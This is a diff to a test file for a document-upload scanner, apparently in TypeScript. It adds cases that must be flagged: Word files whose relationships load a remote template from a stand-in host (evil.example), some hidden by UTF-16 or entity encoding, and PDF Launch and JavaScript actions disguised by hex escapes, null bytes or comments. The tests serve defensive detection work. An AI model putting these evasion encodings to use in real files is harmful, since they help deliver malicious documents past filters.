@@ -32,6 +32,8 @@ const sourceOf = (whole: Buffer): Source => ({
 
 const template = (target: string, type = 'attachedTemplate'): string =>
   `<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
+/** The same in UTF-16. */
+const wide = (text: string): Buffer => Buffer.from(`\uFEFF${text}`, 'utf16le');
 const jpeg = (): Buffer => createCanvas(40, 30).toBuffer('image/jpeg');
 /** Bytes that begin as a JPEG does, with a frame and a scan, and mean nothing. */
 const nonsenseJpeg = (): Buffer =>
@@ -226,6 +228,12 @@ describe('a file that is refused says why and what to do', () => {
       'Starts a program when it is opened or clicked. Print it to a new PDF, then upload that.',
     ],
     [
+      'a template from elsewhere, in UTF-16',
+      'order.docx',
+      () => sampleDocx({ 'word/_rels/settings.xml.rels': wide(template('https://evil.example/t.dotm')) }),
+      'Loads something from elsewhere when it is opened, such as a template. Save it as a PDF, then upload that.',
+    ],
+    [
       'a template from elsewhere',
       'letter.docx',
       () => sampleDocx({ 'word/_rels/settings.xml.rels': template('https://evil.example/t.dotm') }),
@@ -295,6 +303,7 @@ test.each<[boolean, string]>([
   [true, template('file://server/share/t.dotx')],
   [true, template('https://evil.example/x', 'oleObject')],
   [true, template('https://evil.example/x', 'frame').replaceAll('"', "'")],
+  [true, template('https://evil.example/t.dotm').replace('External', '&#69;xtern&#x61;l')],
   [false, template('file:///C:\\Users\\Dana\\Normal.dotm')],
   [false, template('Normal.dotm')],
   [false, template('https://journal.example/article', 'hyperlink')],
@@ -312,6 +321,7 @@ const packed = (objects: string): Buffer =>
 test.each<[boolean, string, Buffer]>([
   [true, 'plain', Buffer.from('<< /S /Launch /F (cmd.exe) >>')],
   [true, 'with letters as numbers', Buffer.from('<</S/L#61un#63h/F(x)>>')],
+  [true, 'with capitals in such numbers', Buffer.from('<</S/#4Cau#6Ech/F(x)>>')],
   [true, 'over the edge of two windows', Buffer.concat([Buffer.alloc(1024 * 1024 - 3), Buffer.from('/Launch ')])],
   [true, 'in an object stream', packed('1 0 << /S /Launch >>')],
   [true, 'in an object stream far in', Buffer.concat([Buffer.alloc(1_500_000), packed('1 0 << /S /Launch >>')])],
@@ -321,3 +331,10 @@ test.each<[boolean, string, Buffer]>([
 ])('%s: a PDF that starts a program, %s', async (expected, _where, bytes) => {
   expect((await runsSomething(sourceOf(bytes))) === 'program').toBe(expected);
 });
+
+test.each(['/S /JavaScript', '/S/#4AavaScript', '/S\0/JavaScript', '/S% of a form\n/JavaScript'])(
+  'a PDF that runs a script, as %j',
+  async (action) => {
+    expect(await runsSomething(sourceOf(Buffer.from(`<< ${action} /JS (x) >>`)))).toBe('script');
+  },
+);
